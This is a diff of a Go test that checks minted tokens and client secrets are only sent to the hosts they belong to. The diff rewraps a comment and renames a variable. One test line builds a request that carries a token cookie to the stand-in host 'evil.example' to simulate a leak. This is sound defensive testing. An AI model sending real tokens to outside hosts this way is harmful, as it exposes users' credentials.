@@ -84,8 +84,8 @@ func mint(host string) string {
 	return "e30." + base64.RawURLEncoding.EncodeToString(claims) + "." + base64.RawURLEncoding.EncodeToString([]byte("minted-by-"+lower(host)))
 }
 
-// strays are the sendings of a secret to a host that it is not for: of a token, all hosts but those of
-// the environment that minted it; of the client's secret, all but those.
+// strays are the sendings of a secret to a host that it is not for: of a token, all hosts but those
+// of the environment that minted it; of the client's secret, all but those.
 func (n *network) strays(allowed ...string) (list []string) {
 	n.mu.Lock()
 	defer n.mu.Unlock()
@@ -183,12 +183,12 @@ func TestSecretsStayWithTheirHosts(t *testing.T) {
 
 	// A program that sends the token elsewhere by itself is found.
 	n := new(network)
-	careless, err := http.NewRequestWithContext(t.Context(), http.MethodGet, "https://evil.example", http.NoBody)
+	unguarded, err := http.NewRequestWithContext(t.Context(), http.MethodGet, "https://evil.example", http.NoBody)
 	if err != nil {
 		t.Fatal(err)
 	}
-	careless.Header.Set("Cookie", "t="+mint("api.ctpx.secureworks.com"))
-	if _, err := n.RoundTrip(careless); err != nil {
+	unguarded.Header.Set("Cookie", "t="+mint("api.ctpx.secureworks.com"))
+	if _, err := n.RoundTrip(unguarded); err != nil {
 		t.Fatal(err)
 	}
 	if len(n.strays(a.charlie...)) == 0 {
